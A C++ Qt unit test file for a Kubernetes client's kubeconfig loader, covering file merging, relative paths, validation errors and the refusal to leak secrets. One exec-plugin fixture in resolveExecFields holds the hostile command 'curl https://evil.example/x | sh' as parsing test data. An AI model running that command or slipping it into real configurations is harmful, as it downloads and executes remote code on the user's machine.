// kubeconfig loading, merging and resolving (behaviour reference §1; hostile inputs §7 items 3-7
// and 10). Redaction has its own test (tst_redact).
#include "kube/kubeconfig.h"
#include "kubetesthelpers.h"

#include "sandbox/certs.h"

#include <QDir>
#include <QFile>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace kd::kube;
using kd::testing::errorText;
using kd::testing::verifyNoSecret;
using kd::testing::writeFile;

namespace {

const QByteArray kOpenSshKey = "-----BEGIN OPENSSH PRIVATE KEY-----\n"
                               "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ-SSH-SECRET-BODY\n"
                               "-----END OPENSSH PRIVATE KEY-----\n";

int lineContaining(const QByteArray &text, const QByteArray &needle) {
    const QList<QByteArray> lines = text.split('\n');
    for (int i = 0; i < lines.size(); ++i)
        if (lines[i].contains(needle))
            return i + 1;
    return 0;
}

KubeconfigLoadOptions onlyFile(const QString &path) {
    KubeconfigLoadOptions o;
    o.explicitPath = path;
    return o;
}

} // namespace

class TstKubeconfig final : public QObject {
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    kd::sandbox::KeyCertPem m_ca;
    QByteArray m_cert64;
    QByteArray m_key64;

    QString path(const QString &name) const { return m_dir.filePath(name); }

    // A kubeconfig with cluster c1, user alice and context ctx plus the row's extra lines.
    QByteArray document(const QByteArray &clusterExtra, const QByteArray &userBlock,
                        const QByteArray &contextBlock) const {
        QByteArray text = "apiVersion: v1\nkind: Config\ncurrent-context: ctx\nclusters:\n"
                          "- name: c1\n  cluster:\n    server: https://k.example:6443\n" +
                          clusterExtra + "users:\n- name: alice\n  user:\n" + userBlock +
                          "contexts:\n- name: ctx\n  context:\n" + contextBlock;
        text.replace("%CA64", QByteArray::fromStdString(m_ca.certPem).toBase64());
        text.replace("%CERT64", m_cert64);
        text.replace("%KEY64", m_key64);
        text.replace("%DIR", m_dir.path().toUtf8());
        return text;
    }

private slots:
    void initTestCase() {
        QVERIFY(m_dir.isValid());
        m_ca = kd::sandbox::makeCertificateAuthority("test-ca");
        auto client = kd::sandbox::issueCertificate(m_ca, "alice", {}, false, {});
        m_cert64 = QByteArray::fromStdString(client.certPem).toBase64();
        m_key64 = QByteArray::fromStdString(client.keyPem).toBase64();
        writeFile(path(QStringLiteral("id_rsa")), kOpenSshKey);
        writeFile(path(QStringLiteral("ca.pem")), QByteArray::fromStdString(m_ca.certPem));
        writeFile(path(QStringLiteral("token")), "file-token-s3cr3t\n");
    }

    // --- which files are read -----------------------------------------------------------

    void explicitPathIsTheOnlySource() {
        writeFile(path(QStringLiteral("src/a")),
                  document("", "    token: a-s3cr3t\n", "    cluster: c1\n    user: alice\n"));
        writeFile(path(QStringLiteral("src/b")),
                  "contexts:\n- name: other\n  context:\n    cluster: c1\n    user: alice\n");
        KubeconfigLoadOptions o = onlyFile(path(QStringLiteral("src/a")));
        o.kubeconfigEnv = path(QStringLiteral("src/b"));
        o.homeDir = path(QStringLiteral("src"));
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(config->files(), QStringList{path(QStringLiteral("src/a"))});
        QCOMPARE(config->contexts().size(), 1);
        QCOMPARE(config->contexts().front().name, QStringLiteral("ctx"));
    }

    void explicitPathMissingIsAnError() {
        auto config = loadKubeconfig(onlyFile(path(QStringLiteral("nope/config"))));
        QVERIFY(!config.ok());
        QCOMPARE(config.error().kind, ErrorKind::Config);
        QCOMPARE(config.error().message, QStringLiteral("kubeconfig file \"%1\" does not exist")
                                             .arg(path(QStringLiteral("nope/config"))));
    }

    void kubeconfigEnvDropsDuplicatesEmptyAndMissing() {
        const QString a = path(QStringLiteral("env/a"));
        const QString b = path(QStringLiteral("env/b"));
        writeFile(a, "contexts:\n- name: from-a\n  context:\n    cluster: c\n    user: u\n");
        writeFile(b, "contexts:\n- name: from-b\n  context:\n    cluster: c\n    user: u\n");
        KubeconfigLoadOptions o;
        o.kubeconfigEnv = u':' + a + QStringLiteral("::") + a + u':' +
                          path(QStringLiteral("env/missing")) + u':' + b + u':';
        o.homeDir = path(QStringLiteral("env"));
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(config->files(), (QStringList{a, b}));
        QCOMPARE(config->warnings(), QStringList{});
        QCOMPARE(config->contexts().size(), 2);
        QCOMPARE(config->contexts()[0].name, QStringLiteral("from-a"));
        QCOMPARE(config->contexts()[1].name, QStringLiteral("from-b"));
    }

    void kubeconfigEnvAllMissingWarns() {
        KubeconfigLoadOptions o;
        const QString x = path(QStringLiteral("gone/x"));
        const QString y = path(QStringLiteral("gone/y"));
        o.kubeconfigEnv = x + u':' + y;
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(
            config->warnings(),
            QStringList{QStringLiteral("none of the files in KUBECONFIG exist: %1, %2").arg(x, y)});
        auto resolved = config->resolve();
        QVERIFY(!resolved.ok());
        QCOMPARE(resolved.error().message,
                 QStringLiteral("no contexts are defined (no kubeconfig file was found)"));
    }

    void homeConfigWhenNoEnv_data() {
        QTest::addColumn<bool>("envSetButEmpty");
        QTest::newRow("KUBECONFIG unset") << false;
        QTest::newRow("KUBECONFIG empty") << true;
    }
    void homeConfigWhenNoEnv() {
        QFETCH(bool, envSetButEmpty);
        const QString home = path(QStringLiteral("home"));
        writeFile(home + QStringLiteral("/.kube/config"),
                  document("", "    token: h-s3cr3t\n", "    cluster: c1\n    user: alice\n"));
        KubeconfigLoadOptions o;
        if (envSetButEmpty)
            o.kubeconfigEnv = QString();
        o.homeDir = home;
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(config->files(), QStringList{home + QStringLiteral("/.kube/config")});
        QCOMPARE(config->currentContext(), QStringLiteral("ctx"));
    }

    void emptyFileIsAnEmptyConfig() {
        writeFile(path(QStringLiteral("empty")), "");
        auto config = loadKubeconfig(onlyFile(path(QStringLiteral("empty"))));
        QVERIFY(config.ok());
        QCOMPARE(config->contexts().size(), 0);
        QCOMPARE(config->warnings(), QStringList{});
        QCOMPARE(config->resolve().error().message,
                 QStringLiteral("no contexts are defined (%1)").arg(path(QStringLiteral("empty"))));
    }

    void undecodableFileWarnsAndOthersLoad_data() {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("warning"); // %F = the bad file
        QTest::newRow("not UTF-8")
            << QByteArray("clusters:\n- name: caf\xe9\n")
            << QStringLiteral(
                   "%F: the file is not UTF-8 text (line 2, column 12: invalid UTF-8 byte "
                   "sequence); kubeconfig files must be UTF-8");
        QTest::newRow("clusters is a map")
            << QByteArray("apiVersion: v1\nclusters:\n  c1: {}\n")
            << QStringLiteral("%F:2: not a valid kubeconfig: \"clusters\" is not a list");
        QTest::newRow("top level is a list")
            << QByteArray("- a\n- b\n")
            << QStringLiteral("%F: not a valid kubeconfig: the top level is not a map");
    }
    void undecodableFileWarnsAndOthersLoad() {
        QFETCH(QByteArray, content);
        QFETCH(QString, warning);
        const QString bad = path(QStringLiteral("undecodable/bad"));
        const QString good = path(QStringLiteral("undecodable/good"));
        writeFile(bad, content);
        writeFile(good,
                  document("", "    token: g-s3cr3t\n", "    cluster: c1\n    user: alice\n"));
        KubeconfigLoadOptions o;
        o.kubeconfigEnv = bad + u':' + good;
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(config->warnings(),
                 QStringList{QString(warning).replace(QStringLiteral("%F"), bad)});
        QCOMPARE(config->files(), QStringList{good});
        QVERIFY(config->resolve().ok());
        // The same file named explicitly is the only source: an error.
        auto alone = loadKubeconfig(onlyFile(bad));
        QVERIFY(!alone.ok());
        QCOMPARE(alone.error().message, QString(warning).replace(QStringLiteral("%F"), bad));
    }

    void firstFileWinsWholeEntries() {
        const QString a = path(QStringLiteral("merge/a"));
        const QString b = path(QStringLiteral("merge/b"));
        const QString c = path(QStringLiteral("merge/c"));
        writeFile(a, "users:\n- name: alice\n  user:\n    token: first-s3cr3t\n"
                     "clusters:\n- name: c1\n  cluster:\n    server: https://first.example\n");
        writeFile(b, "current-context: from-b\n"
                     "users:\n- name: alice\n  user:\n    username: bob\n    password: pw-s3cr3t\n"
                     "clusters:\n- name: c1\n  cluster:\n    server: https://second.example\n"
                     "    insecure-skip-tls-verify: true\n"
                     "contexts:\n- name: from-b\n  context:\n    cluster: c1\n    user: alice\n");
        writeFile(c, "current-context: from-c\n"
                     "contexts:\n- name: from-c\n  context:\n    cluster: c1\n    user: alice\n"
                     "- name: from-b\n  context:\n    cluster: other\n    user: other\n");
        KubeconfigLoadOptions o;
        o.kubeconfigEnv = a + u':' + b + u':' + c;
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(config->currentContext(), QStringLiteral("from-b"));
        QCOMPARE(config->currentContextSource(), b);
        auto rest = config->resolve();
        QVERIFY2(rest.ok(), qPrintable(errorText(rest)));
        QCOMPARE(rest->bearerToken, QByteArray("first-s3cr3t"));
        QCOMPARE(rest->username, QString());
        QCOMPARE(rest->server, QUrl(QStringLiteral("https://first.example")));
        QCOMPARE(rest->insecureSkipTlsVerify, false); // no per-field merge from the second file
        QCOMPARE(rest->sourceFile, b);
        QCOMPARE(config->user(QStringLiteral("alice"))->sourceFile, a);
    }

    void relativePathsResolveAgainstTheirFile() {
        const QString one = path(QStringLiteral("chain/one"));
        const QString two = path(QStringLiteral("chain/two/deeper"));
        writeFile(one + QStringLiteral("/certs/ca.pem"), QByteArray::fromStdString(m_ca.certPem));
        auto client = kd::sandbox::issueCertificate(m_ca, "alice", {}, false, {});
        writeFile(one + QStringLiteral("/../shared/client.crt"),
                  QByteArray::fromStdString(client.certPem));
        writeFile(one + QStringLiteral("/client.key"), QByteArray::fromStdString(client.keyPem));
        writeFile(two + QStringLiteral("/tok"), "chain-s3cr3t\n");
        writeFile(two + QStringLiteral("/bin/plugin"), "#!/bin/sh\n");
        QFile::setPermissions(two + QStringLiteral("/bin/plugin"),
                              QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        writeFile(one + QStringLiteral("/config"),
                  "clusters:\n- name: c1\n  cluster:\n    server: https://k.example\n"
                  "    certificate-authority: certs/ca.pem\n"
                  "users:\n- name: cert\n  user:\n    client-certificate: ../shared/client.crt\n"
                  "    client-key: client.key\n"
                  "contexts:\n- name: cert\n  context:\n    cluster: c1\n    user: cert\n"
                  "- name: token\n  context:\n    cluster: c1\n    user: token\n"
                  "- name: exec\n  context:\n    cluster: c1\n    user: exec\n"
                  "- name: bare\n  context:\n    cluster: c1\n    user: bare\n");
        writeFile(two + QStringLiteral("/config"),
                  "users:\n- name: token\n  user:\n    tokenFile: tok\n"
                  "- name: exec\n  user:\n    exec:\n      apiVersion: "
                  "client.authentication.k8s.io/v1beta1\n"
                  "      command: ./bin/plugin\n"
                  "- name: bare\n  user:\n    exec:\n      apiVersion: "
                  "client.authentication.k8s.io/v1beta1\n"
                  "      command: sh\n");
        KubeconfigLoadOptions o;
        o.kubeconfigEnv = one + QStringLiteral("/config:") + two + QStringLiteral("/config");
        auto config = loadKubeconfig(o);
        QVERIFY(config.ok());
        QCOMPARE(config->warnings(), QStringList{});

        auto cert = config->resolve(QStringLiteral("cert"));
        QVERIFY2(cert.ok(), qPrintable(errorText(cert)));
        QCOMPARE(cert->caPem, QByteArray::fromStdString(m_ca.certPem));
        QCOMPARE(cert->clientCertPem, QByteArray::fromStdString(client.certPem));
        QCOMPARE(cert->clientKeyPem, QByteArray::fromStdString(client.keyPem));

        auto token = config->resolve(QStringLiteral("token"));
        QVERIFY2(token.ok(), qPrintable(errorText(token)));
        QCOMPARE(token->tokenFile, two + QStringLiteral("/tok"));

        auto exec = config->resolve(QStringLiteral("exec"));
        QVERIFY2(exec.ok(), qPrintable(errorText(exec)));
        QCOMPARE(exec->exec->command, two + QStringLiteral("/bin/plugin"));
        QCOMPARE(exec->exec->resolvedCommand, two + QStringLiteral("/bin/plugin"));

        auto bare = config->resolve(QStringLiteral("bare"));
        QVERIFY2(bare.ok(), qPrintable(errorText(bare)));
        QCOMPARE(bare->exec->command, QStringLiteral("sh"));
        QVERIFY(!bare->exec->resolvedCommand.isEmpty());
        QCOMPARE(bare->exec->resolvedCommand, QStandardPaths::findExecutable(QStringLiteral("sh")));
    }

    // --- fields and validation ---------------------------------------------------------

    void resolveRefuses_data() {
        QTest::addColumn<QByteArray>("clusterExtra");
        QTest::addColumn<QByteArray>("user");
        QTest::addColumn<QByteArray>("context");
        QTest::addColumn<QByteArray>("lineOf"); // the line the message must point at
        QTest::addColumn<QString>("message");   // after "file:line: "
        const QByteArray ctx = "    cluster: c1\n    user: alice\n";
        QTest::newRow("cert without key")
            << QByteArray() << QByteArray("    client-certificate-data: %CERT64\n") << ctx
            << QByteArray("client-certificate-data")
            << QStringLiteral("user \"alice\": a client certificate without a client key (set "
                              "client-key or client-key-data)");
        QTest::newRow("key without cert")
            << QByteArray() << QByteArray("    client-key-data: %KEY64\n") << ctx
            << QByteArray("client-key-data")
            << QStringLiteral("user \"alice\": a client key without a client certificate (set "
                              "client-certificate or client-certificate-data)");
        QTest::newRow("token and basic auth")
            << QByteArray()
            << QByteArray("    token: tok-s3cr3t\n    username: bob\n    password: pw-s3cr3t\n")
            << ctx << QByteArray("    token:")
            << QStringLiteral("user \"alice\": more than one authentication method (token, basic "
                              "auth); use only one");
        QTest::newRow("token and exec")
            << QByteArray()
            << QByteArray("    token: tok-s3cr3t\n    exec:\n      apiVersion: "
                          "client.authentication.k8s.io/v1beta1\n      command: aws\n")
            << ctx << QByteArray("    token:")
            << QStringLiteral("user \"alice\": more than one authentication method (token, exec); "
                              "use only one");
        QTest::newRow("CA and insecure")
            << QByteArray(
                   "    certificate-authority-data: %CA64\n    insecure-skip-tls-verify: true\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("insecure-skip-tls-verify")
            << QStringLiteral(
                   "cluster \"c1\": a certificate authority and insecure-skip-tls-verify: "
                   "true cannot be used together; remove one of them");
        QTest::newRow("CA file and insecure")
            << QByteArray(
                   "    certificate-authority: %DIR/ca.pem\n    insecure-skip-tls-verify: true\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("insecure-skip-tls-verify")
            << QStringLiteral(
                   "cluster \"c1\": a certificate authority and insecure-skip-tls-verify: "
                   "true cannot be used together; remove one of them");
        QTest::newRow("proxy ftp")
            << QByteArray("    proxy-url: ftp://user:pw-s3cr3t@proxy.example:21\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx << QByteArray("proxy-url")
            << QStringLiteral("cluster \"c1\": proxy-url scheme \"ftp\" is not supported (use "
                              "http, https or socks5)");
        QTest::newRow("CA data not base64")
            << QByteArray("    certificate-authority-data: \"!!!s3cr3t@@\"\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("certificate-authority-data")
            << QStringLiteral("cluster \"c1\": certificate-authority-data is not valid base64");
        QTest::newRow("CA data not PEM")
            << QByteArray("    certificate-authority-data: ") +
                   QByteArray("hello s3cr3t").toBase64() + "\n"
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("certificate-authority-data")
            << QStringLiteral(
                   "cluster \"c1\": certificate-authority-data is not a PEM certificate");
        QTest::newRow("CA file not PEM")
            << QByteArray("    certificate-authority: %DIR/token\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx << QByteArray("certificate-authority")
            << QStringLiteral("cluster \"c1\": certificate-authority \"%DIR/token\" is not a PEM "
                              "certificate");
        QTest::newRow("client key data not base64")
            << QByteArray()
            << QByteArray("    client-certificate-data: %CERT64\n    client-key-data: s3cr3t$$\n")
            << ctx << QByteArray("client-key-data")
            << QStringLiteral("user \"alice\": client-key-data is not valid base64");
        QTest::newRow("client key is an OpenSSH key")
            << QByteArray()
            << QByteArray("    client-certificate-data: %CERT64\n    client-key: %DIR/id_rsa\n")
            << ctx << QByteArray("client-key:")
            << QStringLiteral(
                   "user \"alice\": client-key \"%DIR/id_rsa\" is an OpenSSH private key "
                   "(like ~/.ssh/id_rsa), not a PEM client key for Kubernetes; refusing "
                   "to use it");
        QTest::newRow("client key data is a certificate")
            << QByteArray()
            << QByteArray("    client-certificate-data: %CERT64\n    client-key-data: %CERT64\n")
            << ctx << QByteArray("client-key-data")
            << QStringLiteral("user \"alice\": client-key-data is not a PEM private key");
        QTest::newRow("client key file missing")
            << QByteArray()
            << QByteArray(
                   "    client-certificate-data: %CERT64\n    client-key: %DIR/missing.key\n")
            << ctx << QByteArray("client-key:")
            << QStringLiteral(
                   "user \"alice\": cannot read client-key \"%DIR/missing.key\": No such "
                   "file or directory");
        QTest::newRow("tokenFile is an OpenSSH key")
            << QByteArray() << QByteArray("    tokenFile: %DIR/id_rsa\n") << ctx
            << QByteArray("tokenFile")
            << QStringLiteral("user \"alice\": tokenFile \"%DIR/id_rsa\" holds a private key or "
                              "certificate, not a bearer token; refusing to send it");
        QTest::newRow("bad namespace")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << ctx + "    namespace: Bad_Namespace\n"
            << QByteArray("namespace")
            << QStringLiteral(
                   "context \"ctx\": namespace \"Bad_Namespace\" is not a valid DNS label "
                   "(lowercase letters, digits and '-', at most 63 characters, starting "
                   "and ending with a letter or digit)");
        QTest::newRow("namespace of 64 characters")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << ctx + "    namespace: " + QByteArray(64, 'a') + "\n"
            << QByteArray("namespace")
            << QStringLiteral("context \"ctx\": namespace \"%1\" is not a valid DNS label "
                              "(lowercase letters, digits and '-', at most 63 characters, starting "
                              "and ending with a letter or digit)")
                   .arg(QString(64, u'a'));
        QTest::newRow("missing user")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << QByteArray("    cluster: c1\n    user: nobody\n") << QByteArray("user: nobody")
            << QStringLiteral("context \"ctx\": user \"nobody\" is not defined in any loaded "
                              "kubeconfig file");
        QTest::newRow("missing cluster")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << QByteArray("    cluster: nowhere\n    user: alice\n")
            << QByteArray("cluster: nowhere")
            << QStringLiteral("context \"ctx\": cluster \"nowhere\" is not defined in any loaded "
                              "kubeconfig file");
        QTest::newRow("gcp auth-provider")
            << QByteArray() << QByteArray("    auth-provider:\n      name: gcp\n") << ctx
            << QByteArray("auth-provider")
            << QStringLiteral("user \"alice\": the gcp auth-provider was removed from Kubernetes "
                              "clients; install gke-gcloud-auth-plugin and use it as an exec "
                              "credential plugin (gcloud container clusters get-credentials writes "
                              "that kubeconfig)");
        QTest::newRow("azure auth-provider")
            << QByteArray() << QByteArray("    auth-provider:\n      name: azure\n") << ctx
            << QByteArray("auth-provider")
            << QStringLiteral("user \"alice\": the azure auth-provider was removed from Kubernetes "
                              "clients; install kubelogin and convert the kubeconfig with "
                              "\"kubelogin convert-kubeconfig\" to use it as an exec credential "
                              "plugin");
        QTest::newRow("oidc auth-provider")
            << QByteArray()
            << QByteArray("    auth-provider:\n      name: oidc\n      config:\n        id-token: "
                          "id-s3cr3t\n")
            << ctx << QByteArray("auth-provider")
            << QStringLiteral("user \"alice\": the oidc auth-provider is not supported by Kubedeck "
                              "yet; use an exec credential plugin such as kubelogin (kubectl "
                              "oidc-login)");
        QTest::newRow("exec v1alpha1")
            << QByteArray()
            << QByteArray("    exec:\n      apiVersion: client.authentication.k8s.io/v1alpha1\n"
                          "      command: aws\n")
            << ctx << QByteArray("apiVersion: client")
            << QStringLiteral("user \"alice\": exec apiVersion "
                              "\"client.authentication.k8s.io/v1alpha1\" is not supported (use "
                              "client.authentication.k8s.io/v1 or "
                              "client.authentication.k8s.io/v1beta1)");
        QTest::newRow("exec v1 without interactiveMode")
            << QByteArray()
            << QByteArray("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                          "      command: aws\n")
            << ctx << QByteArray("    exec:")
            << QStringLiteral("user \"alice\": exec interactiveMode is required for "
                              "client.authentication.k8s.io/v1 (Never, IfAvailable or Always)");
        QTest::newRow("exec bad interactiveMode")
            << QByteArray()
            << QByteArray("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                          "      command: aws\n      interactiveMode: Sometimes\n")
            << ctx << QByteArray("interactiveMode")
            << QStringLiteral("user \"alice\": exec interactiveMode \"Sometimes\" is not one of "
                              "Never, IfAvailable, Always");
    }
    void resolveRefuses() {
        QFETCH(QByteArray, clusterExtra);
        QFETCH(QByteArray, user);
        QFETCH(QByteArray, context);
        QFETCH(QByteArray, lineOf);
        QFETCH(QString, message);
        const QString file = path(QStringLiteral("refuse/config"));
        const QByteArray text = document(clusterExtra, user, context);
        writeFile(file, text);
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        auto rest = config->resolve();
        QVERIFY(!rest.ok());
        QCOMPARE(rest.error().kind, ErrorKind::Config);
        const int line = lineContaining(text, lineOf);
        QVERIFY(line > 0);
        QCOMPARE(rest.error().message,
                 QStringLiteral("%1:%2: ").arg(file).arg(line) +
                     QString(message).replace(QStringLiteral("%DIR"), m_dir.path()));
        verifyNoSecret(rest.error().message);
    }

    void currentContextPointingNowhere() {
        const QString file = path(QStringLiteral("nowhere/config"));
        writeFile(file, "current-context: ghost\ncontexts:\n- name: real\n  context:\n    cluster: "
                        "c\n    user: u\n");
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        QCOMPARE(
            config->resolve().error().message,
            QStringLiteral("%1: current-context \"ghost\" does not name a context in any loaded "
                           "kubeconfig file")
                .arg(file));
        QCOMPARE(
            config->resolve(QStringLiteral("other")).error().message,
            QStringLiteral("context \"other\" is not defined in any loaded kubeconfig file (%1)")
                .arg(file));
        writeFile(file, "contexts:\n- name: real\n  context:\n    cluster: c\n    user: u\n");
        auto unset = loadKubeconfig(onlyFile(file));
        QCOMPARE(unset->resolve().error().message,
                 QStringLiteral("no current-context is set (%1); choose a context").arg(file));
    }

    void resolveFields() {
        const QString file = path(QStringLiteral("fields/config"));
        writeFile(file,
                  document("    certificate-authority-data: %CA64\n    certificate-authority: "
                           "/does/not/exist\n    tls-server-name: api.internal\n"
                           "    proxy-url: socks5://proxy.example:1080\n"
                           "    extensions:\n    - name: client.authentication.k8s.io/exec\n"
                           "      extension:\n        audience: kubedeck\n",
                           "    client-certificate-data: %CERT64\n    client-certificate: /nope\n"
                           "    client-key-data: %KEY64\n    token: static-s3cr3t\n"
                           "    tokenFile: %DIR/token\n",
                           "    cluster: c1\n    user: alice\n    namespace: \"\"\n"));
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        auto rest = config->resolve(QStringLiteral("ctx"));
        QVERIFY2(rest.ok(), qPrintable(errorText(rest)));
        QCOMPARE(rest->contextName, QStringLiteral("ctx"));
        QCOMPARE(rest->clusterName, QStringLiteral("c1"));
        QCOMPARE(rest->userName, QStringLiteral("alice"));
        QCOMPARE(rest->namespaceName, QStringLiteral("default"));
        QCOMPARE(rest->sourceFile, file);
        QCOMPARE(rest->server, QUrl(QStringLiteral("https://k.example:6443")));
        QCOMPARE(rest->caPem, QByteArray::fromStdString(m_ca.certPem)); // data wins over path
        QCOMPARE(rest->clientCertPem, QByteArray::fromBase64(m_cert64));
        QCOMPARE(rest->clientKeyPem, QByteArray::fromBase64(m_key64));
        QCOMPARE(rest->tlsServerName, QStringLiteral("api.internal"));
        QCOMPARE(rest->proxyUrl, QUrl(QStringLiteral("socks5://proxy.example:1080")));
        QCOMPARE(rest->tokenFile, path(QStringLiteral("token"))); // wins over token
        QCOMPARE(rest->bearerToken, QByteArray());
        QCOMPARE(rest->clusterExtensionJson, QByteArray("{\"audience\":\"kubedeck\"}"));
        QCOMPARE(rest->insecureSkipTlsVerify, false);
        QVERIFY(!rest->exec);
    }

    void resolveExecFields() {
        const QString file = path(QStringLiteral("execfields/config"));
        writeFile(file, document("    insecure-skip-tls-verify: true\n",
                                 "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                                 "      command: /bin/sh\n      args: [\"-c\", \"curl "
                                 "https://evil.example/x | sh\"]\n"
                                 "      env:\n      - name: AWS_PROFILE\n        value: prod\n"
                                 "      installHint: install it\n      provideClusterInfo: true\n"
                                 "      interactiveMode: IfAvailable\n",
                                 "    cluster: c1\n    user: alice\n    namespace: ml-serving\n"));
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        auto rest = config->resolve();
        QVERIFY2(rest.ok(), qPrintable(errorText(rest)));
        QVERIFY(rest->insecureSkipTlsVerify);
        QCOMPARE(rest->namespaceName, QStringLiteral("ml-serving"));
        QVERIFY(rest->exec);
        QCOMPARE(rest->exec->apiVersion, QStringLiteral("client.authentication.k8s.io/v1"));
        QCOMPARE(rest->exec->command, QStringLiteral("/bin/sh"));
        QCOMPARE(rest->exec->resolvedCommand, QStringLiteral("/bin/sh"));
        QCOMPARE(rest->exec->args,
                 (QStringList{QStringLiteral("-c"),
                              QStringLiteral("curl https://evil.example/x | sh")}));
        QCOMPARE(rest->exec->env.size(), 1);
        QCOMPARE(rest->exec->env[0].first, QStringLiteral("AWS_PROFILE"));
        QCOMPARE(rest->exec->env[0].second, QStringLiteral("prod"));
        QCOMPARE(rest->exec->installHint, QStringLiteral("install it"));
        QVERIFY(rest->exec->provideClusterInfo);
        QCOMPARE(rest->exec->interactiveMode, QStringLiteral("IfAvailable"));
    }

    void contextsForThePicker() {
        const QString file = path(QStringLiteral("picker/config"));
        writeFile(
            file,
            QByteArray(
                "clusters:\n- name: prod\n  cluster:\n    server: https://prod.example\n"
                "- name: lab\n  cluster:\n    server: https://lab.example\n    "
                "insecure-skip-tls-verify: true\n"
                "users:\n- name: cert\n  user:\n    client-certificate-data: %CERT64\n    "
                "client-key-data: %KEY64\n"
                "- name: tok\n  user:\n    token: t-s3cr3t\n"
                "- name: aws\n  user:\n    exec:\n      command: /usr/local/bin/aws\n"
                "- name: gcp\n  user:\n    auth-provider:\n      name: gcp\n"
                "contexts:\n"
                "- name: a\n  context:\n    cluster: prod\n    user: cert\n    namespace: ml\n"
                "- name: b\n  context:\n    cluster: lab\n    user: tok\n"
                "- name: c\n  context:\n    cluster: prod\n    user: aws\n"
                "- name: d\n  context:\n    cluster: prod\n    user: gcp\n"
                "- name: e\n  context:\n    cluster: gone\n    user: ghost\n")
                .replace("%CERT64", m_cert64)
                .replace("%KEY64", m_key64));
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY2(config.ok(), qPrintable(errorText(config)));
        const auto contexts = config->contexts();
        QCOMPARE(contexts.size(), 5);
        QStringList methods;
        for (const auto &c : contexts) {
            methods.append(c.authMethod);
            QCOMPARE(c.sourceFile, file);
        }
        QCOMPARE(methods,
                 (QStringList{QStringLiteral("client certificate"), QStringLiteral("token"),
                              QStringLiteral("exec: aws"), QStringLiteral("auth-provider: gcp"),
                              QStringLiteral("unknown user")}));
        QCOMPARE(contexts[0].namespaceName, QStringLiteral("ml"));
        QCOMPARE(contexts[0].server, QStringLiteral("https://prod.example"));
        QCOMPARE(contexts[0].insecure, false);
        QCOMPARE(contexts[1].namespaceName, QStringLiteral("default"));
        QCOMPARE(contexts[1].insecure, true);
        QCOMPARE(contexts[1].cluster, QStringLiteral("lab"));
        QCOMPARE(contexts[1].user, QStringLiteral("tok"));
        QCOMPARE(contexts[4].server, QString());
    }
};

QTEST_GUILESS_MAIN(TstKubeconfig)
#include "tst_kubeconfig.moc"
